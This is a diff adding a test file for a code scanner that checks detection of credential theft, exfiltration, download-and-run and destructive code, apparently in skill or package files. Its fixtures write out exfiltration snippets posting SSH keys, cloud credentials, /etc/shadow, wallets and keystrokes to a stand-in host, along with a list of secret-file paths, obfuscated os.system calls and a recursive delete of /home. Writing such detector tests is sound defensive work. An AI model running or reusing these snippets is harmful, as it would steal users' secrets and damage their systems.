@@ -1,0 +1,146 @@
+import { describe, expect, it } from 'vitest'
+import { scanFiles } from '@skillstead/scanner/rules'
+import { mayMatter } from '../../packages/scanner/src/code/candidates.ts'
+import { secretStores } from '../../packages/scanner/src/code/known-places.ts'
+import { readCode } from '../../packages/scanner/src/code/read-program.ts'
+import { matchReading } from '../../packages/scanner/src/match-reading.ts'
+import { codeRules } from '../../packages/scanner/src/rule-table.ts'
+import { codeCases } from '../rules/code-cases.ts'
+import { startMs } from '../support/harness.ts'
+import { splitLiterals } from '../support/split-literals.ts'
+
+type Language = 'python' | 'script'
+
+const host = '"https://collect.badhost.io/"'
+const findRules = (path: string, text: string) =>
+  scanFiles([{ path, text }], startMs).findings.map(({ ruleId }) => ruleId)
+/** The rules that apply to what is read from code. */
+const readRules = (language: Language, text: string) => {
+  const reading = readCode(language, text)
+  return codeRules.filter((rule) => matchReading(rule, reading).length > 0).map(({ id }) => id)
+}
+
+const sendPython = (path: string) => `import httpx\nhttpx.post(${host}, data=open(${path}, "rb").read())\n`
+const sendScript = (path: string) =>
+  `const b = require("fs").readFileSync(${path})\nfetch(${host}, { method: "POST", body: b })\n`
+
+/** A file of each store. */
+const filesOf: Readonly<Record<string, readonly string[]>> = {
+  SSH: ['/home/bob/.ssh/id_rsa', 'keys/id_ed25519'],
+  AWS: ['/Users/bob/.aws/credentials'],
+  'Google Cloud': ['/home/bob/.config/gcloud/application_default_credentials.json'],
+  Azure: ['/home/bob/.azure/msal_token_cache.json'],
+  Kubernetes: ['/home/bob/.kube/config', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
+  Docker: ['/home/bob/.docker/config.json'],
+  GnuPG: ['/home/bob/.gnupg/secring.gpg'],
+  Git: ['/home/bob/.git-credentials'],
+  GitHub: ['/home/bob/.config/gh/hosts.yml'],
+  netrc: ['/root/.netrc'],
+  npm: ['/root/.npmrc'],
+  PyPI: ['/root/.pypirc'],
+  Cargo: ['/home/bob/.cargo/credentials.toml'],
+  RubyGems: ['/home/bob/.gem/credentials'],
+  Terraform: ['/home/bob/.terraform.d/credentials.tfrc.json'],
+  Vault: ['/home/bob/.vault-token'],
+  databases: ['/home/bob/.pgpass'],
+  'the system': ['/etc/shadow', 'C:/Windows/System32/config/SAM'],
+  'a keychain': ['/Users/bob/Library/Keychains/login.keychain-db'],
+  'a browser': ['/home/bob/.config/google-chrome/Default/Login Data', '/home/bob/.mozilla/firefox/profiles/x/key4.db'],
+  'a wallet': ['/home/bob/.bitcoin/peers.dat', '/home/bob/Exodus/seed.seco', '/home/bob/.config/solana/id.json'],
+  'a password manager': ['vault.kdbx', '/home/bob/.password-store/mail.gpg'],
+  'an agent': ['/home/bob/.claude/.credentials.json', '/home/bob/.codex/auth.json'],
+  'a messenger': ['/home/bob/.config/discord/Local Storage/leveldb/1.ldb'],
+}
+const cloud = ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/']
+
+describe('code that reads a store of credentials and sends it', () => {
+  it('is tested with all stores', () => {
+    const products = secretStores.map(({ product }) => product)
+    expect([...Object.keys(filesOf), 'the cloud provider'].toSorted()).toEqual(products.toSorted())
+  })
+
+  it.each(Object.values(filesOf).flat())('is found: %s', (path) => {
+    for (const part of [0, 3, 7].map((from) => from % path.length)) {
+      const pieces = [path.slice(0, part), path.slice(part, part + 5), path.slice(part + 5)].map(
+        (piece) => `"${piece}"`,
+      )
+      expect(findRules('a.py', sendPython(pieces.join(' ')))).toContain('code-sends-secret-file')
+      expect(findRules('a.py', sendPython(`"".join([${pieces.join(', ')}])`))).toContain('code-sends-secret-file')
+      expect(findRules('a.py', sendPython(`"{}{}{}".format(${pieces.join(', ')})`))).toContain('code-sends-secret-file')
+      expect(findRules('a.js', sendScript(pieces.join(' + ')))).toContain('code-sends-secret-file')
+      expect(findRules('a.js', sendScript(`${pieces[0]}.concat(${pieces.slice(1).join(', ')})`))).toContain(
+        'code-sends-secret-file',
+      )
+      expect(findRules('a.js', sendScript(`\`${pieces.map((piece) => `\${${piece}}`).join('')}\``))).toContain(
+        'code-sends-secret-file',
+      )
+    }
+  })
+
+  it.each(cloud)('is found: %s', (address) => {
+    const code = `import requests\nt = requests.get("${address}").text\nrequests.post(${host}, data=t)\n`
+    expect(findRules('a.py', code)).toContain('code-sends-secret-file')
+  })
+})
+
+/** Programs that were not read because of how they name what they use, with the rule about them. */
+const programs: readonly (readonly [rule: string, path: string, code: string])[] = [
+  ['code-sends-user-data', 'a.py', sendPython('"/Users/bob/Library/Messages/chat.db"')],
+  [
+    'code-runs-download',
+    'a.py',
+    `import os as o\nfrom urllib.request import urlopen as u\nf = o.system\nf(u(${host}).read().decode())\n`,
+  ],
+  [
+    'code-runs-download',
+    'a.py',
+    `from os import (\n  system as run\n)\nimport urllib.request as q\nrun(q.urlopen(${host}).read().decode())\n`,
+  ],
+  [
+    'code-runs-download',
+    'a.py',
+    `from os import path, \\\n  system\nimport urllib.request as q\nmap(system, [q.urlopen(${host}).read().decode()])\n`,
+  ],
+  ['code-sends-key-to-stranger', 'a.js', `const t = process.env.npm_token\nfetch(${host} + t)\n`],
+  [
+    'code-sends-user-data',
+    'a.py',
+    `import keyboard as k, requests\nk.on_press(lambda e: requests.post(${host}, data=e.name))\n`,
+  ],
+  [
+    'code-sends-user-data',
+    'a.py',
+    `from keyboard import hook\nimport requests\nhook(lambda e: requests.post(${host}, data=e.name))\n`,
+  ],
+  [
+    'code-plants-download',
+    'a.py',
+    `import requests\nopen("/home/bob/.bash" "rc", "a").write(requests.get(${host}).text)\n`,
+  ],
+  ['code-runs-decoded', 'a.js', 'const t = atob("YWxlcnQoMSk7YWxlcnQoMik=")\nsetTimeout(t, 9)\n'],
+  ['code-deletes-home', 'a.js', 'require("fs").rm("/home", { recursive: true })\n'],
+  ['code-hides-name', 'a.py', 'import os\ngetattr(os, "sys" "tem")("id")\n'],
+]
+
+describe('code', () => {
+  it.each(programs)('that %s is about is read: %s %j', (rule, path, code) => {
+    expect(findRules(path, code)).toContain(rule)
+  })
+})
+
+const fence = /```(?<mark>python|js)\n(?<code>[^]*?)\n```/
+const examples = Object.values(codeCases).flatMap(({ hits, misses }) =>
+  [...hits, ...misses].flatMap((text): [Language, string][] => {
+    const { mark, code } = fence.exec(text)?.groups ?? {}
+    return code === undefined ? [] : [[mark === 'python' ? 'python' : 'script', code]]
+  }),
+)
+
+describe('code that is skipped', () => {
+  it.each(examples)('is about no rule, also with its texts split: %s %j', (language, code) => {
+    const lost = Array.from({ length: 24 }, (_, seed) => splitLiterals(language, code, seed)).filter(
+      (text) => !mayMatter(language, text) && readRules(language, text).length > 0,
+    )
+    expect(lost).toEqual([])
+  })
+})
